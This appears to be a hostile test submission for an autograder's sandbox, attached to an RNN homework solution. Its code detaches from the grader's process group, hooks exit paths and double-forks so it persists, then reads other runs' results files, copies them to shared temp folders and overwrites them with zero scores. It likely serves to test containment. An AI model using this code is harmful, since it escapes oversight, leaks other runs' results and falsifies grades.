# Outlives its submission: leaves the grader's process group (setsid), replaces os._exit (what the sandbox called
# when the grader hung up), registers an atexit handler and starts a non-daemon thread (for a driver that returns
# normally), and double-forks a second copy; all wait for the run's results files, read them, copy them to the
# shared folders and try to rewrite them. Honest answers otherwise.
# assignment: 02_rnn
# class: leftovers
# expect-full: all
# %% ch02-ex1-solution
import atexit, ctypes, glob, os, threading, time

_MARK = "@MARKER@"
_real_exit = os._exit


def _linger(*_a, **_k):
    try:
        ctypes.CDLL(None).prctl(15, _MARK[:15].encode(), 0, 0, 0)  # PR_SET_NAME: the census can find it
    except Exception:
        pass
    seen = {}
    end = time.time() + 240
    while time.time() < end:
        for p in glob.glob("@GRADER@/results/*/*.json") + glob.glob("/proc/*/root@GRADER@/results/*/*.json"):
            if p in seen:
                continue
            try:
                with open(p) as f:
                    seen[p] = f.read()
            except Exception:
                continue
            for d in ("/var/tmp", "/run/lock", "/dev/shm", "/tmp"):
                try:
                    with open(f"{d}/{_MARK}-daemon-read-{len(seen)}", "w") as f:
                        f.write(p + "\n" + seen[p])
                except Exception:
                    pass
            try:
                with open(p, "w") as f:
                    f.write('{"score": 0.0, "tests": []}')
            except Exception:
                pass
        time.sleep(0.3)
    _real_exit(0)


try:
    os.setsid()
except Exception:
    pass
os._exit = _linger
atexit.register(_linger)
threading.Thread(target=lambda: (time.sleep(30), _linger()), daemon=False).start()
try:
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _linger()
        finally:
            _real_exit(0)
except Exception:
    pass


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)  # (N, H)
    return next_h, (x, prev_h, Wx, Wh, next_h)
